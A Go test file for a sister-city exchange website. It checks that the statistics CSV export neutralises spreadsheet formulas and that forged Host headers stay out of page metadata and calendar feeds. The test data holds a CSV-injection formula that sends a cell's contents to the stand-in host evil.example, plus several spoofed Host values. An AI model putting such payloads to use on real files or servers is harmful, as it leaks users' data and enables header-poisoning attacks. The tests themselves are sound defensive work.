package web

import (
	"context"
	"database/sql"
	"encoding/csv"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"sistercity/internal/config"
	"sistercity/internal/register"
	"sistercity/internal/video"
)

// TestStatisticsCSVNeutralisesFormulas: a partner city whose name a spreadsheet would run as a
// formula is written with a quote in front in the statistics CSV; the counts stay numbers.
func TestStatisticsCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newTestEnv(t)
	_, partner, p := seedVladivostok(t, e)
	seedExchange(t, e, p)
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Vladivostok")`
	e.inTx(func(tx *sql.Tx) error {
		partner.SetText("en", formula, "")
		partner.SetText("ko", "@블라디보스토크", "")
		return register.UpdateCity(context.Background(), tx, partner)
	})
	c := e.client()
	for lang, want := range map[string]string{"en": "'" + formula, "ko": "'@블라디보스토크"} {
		resp, body := c.get("/" + lang + "/statistics/by-partner.csv")
		if resp.StatusCode != 200 {
			t.Fatalf("%s: %d", lang, resp.StatusCode)
		}
		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(records) != 2 || len(records[1]) < 3 || records[1][1] != want {
			t.Fatalf("%s CSV: %q, want the name %q", lang, records, want)
		}
		for _, cell := range records[1][2:] {
			if cell == "" || cell[0] < '0' || cell[0] > '9' {
				t.Errorf("%s: count %q is not a plain number", lang, cell)
			}
		}
	}
}

// getWithHost fetches path from the test server with the Host header set to host.
func getWithHost(t *testing.T, e *testEnv, path, host string) string {
	t.Helper()
	req, err := http.NewRequest("GET", e.ts.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("%s with Host %s: %d", path, host, resp.StatusCode)
	}
	return string(b)
}

// TestForgedHostNotInAbsoluteURLs: without --base-url, a Host header that does not name the
// server's own address appears in no OpenGraph or JSON-LD URL, calendar UID or event URL; the
// address the request reached is used instead. A Host that names that address (or localhost on
// a loopback connection) is used as it is.
func TestForgedHostNotInAbsoluteURLs(t *testing.T) {
	t.Parallel()
	e := newTestEnv(t)
	_, partner, p := seedVladivostok(t, e)
	acts := seedExchange(t, e, p)
	v := seedVideo(t, e, p, video.StatePublished, video.Text{Lang: "en", Title: "Support from Vladivostok"})
	u, _ := url.Parse(e.ts.URL) // http://127.0.0.1:PORT
	_, port, _ := net.SplitHostPort(u.Host)
	watch := "/en/videos/" + itoa64(v.ID)
	calendars := []string{"/ko/calendar.ics", "/ru/partners/" + itoa64(partner.ID) + "/calendar.ics"}

	for _, forged := range []string{"evil.example", "evil.example:" + port, "127.0.0.1:1", "localhost:1", "10.9.8.7:" + port,
		"127.0.0.1:" + port + "@evil.example", "[::1]:" + port} {
		body := getWithHost(t, e, watch, forged)
		for _, want := range []string{`property="og:url" content="` + e.ts.URL + watch + `"`,
			`property="og:image" content="` + e.ts.URL + `/media/videos/`, `"thumbnailUrl":["` + e.ts.URL + `/media/videos/`} {
			if !strings.Contains(body, want) {
				t.Errorf("Host %s: the watch page lacks %s", forged, want)
			}
		}
		if strings.Contains(body, "evil.example") || strings.Contains(body, "10.9.8.7") || strings.Contains(body, "127.0.0.1:1/") ||
			strings.Contains(body, "localhost") || strings.Contains(body, "::1") {
			t.Errorf("Host %s: the forged host is on the watch page", forged)
		}
		for _, cal := range calendars {
			body := getWithHost(t, e, cal, forged)
			if strings.Contains(body, "evil.example") || strings.Contains(body, "10.9.8.7") || strings.Contains(body, "localhost") ||
				strings.Contains(body, "::1") {
				t.Errorf("Host %s: the forged host is in %s", forged, cal)
			}
			if !strings.Contains(body, "UID:activity-"+itoa64(acts["busan_day"].ID)+"@127.0.0.1\r\n") {
				t.Errorf("Host %s: %s lacks the UID on 127.0.0.1", forged, cal)
			}
		}
	}
	// An event's URL in the feed is on the server's address too.
	if body := getWithHost(t, e, calendars[0], "evil.example"); !strings.Contains(strings.ReplaceAll(body, "\r\n ", ""),
		"URL:"+e.ts.URL+"/ko/partners/") {
		t.Errorf("the feed's event URLs are not on %s", e.ts.URL)
	}

	// The server's own address under another name it answers to is kept.
	body := getWithHost(t, e, watch, "localhost:"+port)
	if !strings.Contains(body, `property="og:url" content="http://localhost:`+port+watch+`"`) {
		t.Errorf("Host localhost:%s is not used on a loopback connection", port)
	}
}

// TestOriginPrefersBaseURL: a configured base URL is the origin whatever the request says.
func TestOriginPrefersBaseURL(t *testing.T) {
	t.Parallel()
	s := &Server{cfg: config.Config{BaseURL: "https://sister.example.org", Listen: ":8080"}}
	r := httptest.NewRequest("GET", "http://evil.example/en/videos/1", nil)
	if got := s.absoluteURL(r, "/en/videos/1"); got != "https://sister.example.org/en/videos/1" {
		t.Errorf("absoluteURL = %q", got)
	}
	if got := s.uidHost(r); got != "sister.example.org" {
		t.Errorf("uidHost = %q", got)
	}
	// Without a base URL and without a connection (no local address): the listen address.
	s.cfg.BaseURL = ""
	for listen, want := range map[string]string{":8080": "http://localhost:8080", "0.0.0.0:80": "http://localhost",
		"192.0.2.7:8443": "http://192.0.2.7:8443", "[::1]:80": "http://[::1]", "[::]:9000": "http://localhost:9000"} {
		s.cfg.Listen = listen
		if got := s.origin(r); got != want {
			t.Errorf("listen %s: origin %q, want %q", listen, got, want)
		}
	}
	// On a connection to [::1]:8080 a Host naming it is kept; another is replaced.
	ctx := context.WithValue(r.Context(), http.LocalAddrContextKey, &net.TCPAddr{IP: net.ParseIP("::1"), Port: 8080})
	for host, want := range map[string]string{"[::1]:8080": "http://[::1]:8080", "LOCALHOST:8080": "http://localhost:8080",
		"evil.example:8080": "http://[::1]:8080", "[::1]": "http://[::1]:8080"} {
		r := r.WithContext(ctx)
		r.Host = host
		if got := s.origin(r); got != want {
			t.Errorf("Host %s: origin %q, want %q", host, got, want)
		}
	}
}
